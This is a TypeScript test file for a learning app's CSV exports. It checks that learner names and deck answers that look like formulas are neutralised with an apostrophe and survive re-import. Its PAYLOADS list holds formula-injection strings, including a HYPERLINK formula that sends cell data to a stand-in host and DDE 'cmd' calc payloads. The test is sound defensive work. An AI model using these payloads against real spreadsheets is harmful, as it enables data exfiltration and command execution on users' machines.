// Issue 17 item 4: learner names and deck answers reached the instructor's CSVs raw, so a spreadsheet ran them
// as formulas. Every CSV the app writes goes through writeCsv, which guards such cells with an apostrophe.
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as gradebookRoute } from "@/app/instructor/classes/[classId]/gradebook.csv/route";
import { GET as deckExportRoute } from "@/app/instructor/decks/[deckId]/export.csv/route";
import { importCsvAction } from "@/app/instructor/actions";
import type { Viewer } from "@/lib/server/auth/viewer";
import { db } from "@/lib/server/db/client";
import { parseCsv } from "@/lib/csv/parse-csv";
import { writeCsv } from "@/lib/csv/write-csv";
import { makeUser } from "../instructor/helpers";

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3+cmd|' /C calc'!A0",
  "=1+1",
  "\t=1+1",
  "\r=1+1",
];

/** What a spreadsheet would see in the cell: it runs text whose first character is one of these. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);

let instructor: Viewer;

beforeAll(async () => {
  instructor = await makeUser("instructor");
});

async function bodyOf(res: Response): Promise<string[][]> {
  expect(res.status).toBe(200);
  const text = await res.text();
  // Read the raw cells (no un-guarding) the way a spreadsheet does: split the RFC 4180 quoting only.
  return rawCells(text);
}

function rawCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n" || (ch === "\r" && text[i + 1] === "\n")) {
      if (ch === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  return rows;
}

describe("CSV formula injection", () => {
  it("the gradebook writes a learner's formula-like name as text", async () => {
    const cls = await db.class.create({ data: { ownerId: instructor.id, name: "Period 1", joinCode: `J${Math.random().toString(36).slice(2, 9).toUpperCase()}` } });
    for (const name of PAYLOADS) {
      const learner = await makeUser("learner", name);
      await db.enrollment.create({ data: { classId: cls.id, userId: learner.id } });
    }
    const rows = await bodyOf(await gradebookRoute.runAs(instructor, new Request("http://localhost/x"), { params: Promise.resolve({ classId: cls.id }) }));
    const names = rows.slice(1).map((r) => r[0]!);
    expect(names).toHaveLength(PAYLOADS.length);
    for (const cell of names) expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
    expect(names).toContain(`'${PAYLOADS[0]}`);
    expect(names).toContain("'@SUM(1+1)");
  });

  it("the deck export writes formula-like answers as text, and re-imports them unchanged", async () => {
    const deck = await db.deck.create({ data: { ownerId: instructor.id, title: "Injection", status: "draft", visibility: "private" } });
    await db.question.createMany({
      data: PAYLOADS.map((p, position) => ({ deckId: deck.id, kind: "flashcard", prompt: `Q${position} ${p}`, answer: p, position, sourceSentence: p })),
    });
    const csv = await (await deckExportRoute.runAs(instructor, new Request("http://localhost/x"), { params: Promise.resolve({ deckId: deck.id }) })).text();
    const rows = rawCells(csv);
    for (const row of rows.slice(1)) for (const cell of row) expect(dangerous(cell), JSON.stringify(cell)).toBe(false);

    const copy = await db.deck.create({ data: { ownerId: instructor.id, title: "Copy", status: "draft", visibility: "private" } });
    const imported = await importCsvAction.runAs(instructor, { deckId: copy.id, csv });
    expect(imported.ok).toBe(true);
    const answers = (await db.question.findMany({ where: { deckId: copy.id }, orderBy: { position: "asc" } })).map((q) => q.answer);
    // The importer trims answers (its own rule), so the tab- and CR-led payloads come back trimmed.
    expect(answers.sort()).toEqual(PAYLOADS.map((p) => p.trim()).sort());
  });

  it("numbers stay numbers (a negative number is not text)", () => {
    expect(writeCsv(["n", "s"], [[-5, "-5"]])).toBe("n,s\r\n-5,'-5\r\n");
  });

  it("any table of strings round-trips, formula characters and apostrophes included", () => {
    const cell = fc.string({ unit: fc.constantFrom("a", " ", ",", '"', "\n", "\r\n", "=", "+", "-", "@", "\t", "\r", "'", "|") });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const out = writeCsv(["h1", "h2"], rows);
        for (const r of rawCells(out)) for (const c of r) expect(dangerous(c)).toBe(false);
        expect(parseCsv(out).map((r) => r.fields)).toEqual([["h1", "h2"], ...rows]);
      }),
      { numRuns: 300 },
    );
  });
});
